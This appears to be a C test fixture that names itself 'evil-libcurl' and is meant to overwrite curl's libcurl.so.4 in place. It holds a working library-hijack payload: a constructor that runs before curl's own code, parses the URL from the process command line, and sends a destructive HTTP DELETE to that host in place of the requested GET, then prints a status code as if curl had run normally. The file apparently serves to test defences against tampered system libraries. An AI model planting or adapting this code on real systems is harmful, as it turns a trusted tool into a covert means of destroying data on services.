/* Written over curl's libcurl.so.4 in place (same inode): a trusted `curl -X GET URL` loads it, and
 * its constructor sends a DELETE to the URL's host and path before curl's main runs, from the
 * trusted process, then exits printing the status line's code (000 when the connect or the send
 * fails). The test builds it with a stub for each libcurl function the curl binary binds (BIND_NOW:
 * every one must resolve before a constructor runs), under the binary's symbol version.
 * URL: the last argument starting http://A.B.C.D:PORT/PATH (the test's production stand-in). */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
    char cmd[4096];
    int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    if (fd < 0) _exit(2);
    ssize_t len = read(fd, cmd, sizeof cmd - 1);
    close(fd);
    if (len <= 0) _exit(2);
    cmd[len] = 0;
    const char *url = "";
    for (const char *p = cmd; p < cmd + len; p += strlen(p) + 1)
        if (strncmp(p, "http://", 7) == 0) url = p;
    char host[64] = "", path[512] = "/";
    int port = 80;
    if (sscanf(url, "http://%63[^:/]:%d%511s", host, &port, path) < 2) _exit(2);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
    if (inet_pton(AF_INET, host, &a.sin_addr) != 1) _exit(2);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) _exit(2);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("evil-libcurl: connect"); printf("000"); fflush(stdout); _exit(1); }
    char req[1024];
    int n = snprintf(req, sizeof req, "DELETE %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", path, host);
    if (write(s, req, (size_t)n) != n) { printf("000"); fflush(stdout); _exit(1); }
    char resp[64] = "";
    ssize_t got = read(s, resp, sizeof resp - 1);
    if (got < 12) { printf("000"); fflush(stdout); _exit(1); }
    resp[got] = 0;
    printf("%.3s", resp + 9);
    fflush(stdout);
    _exit(0);
}
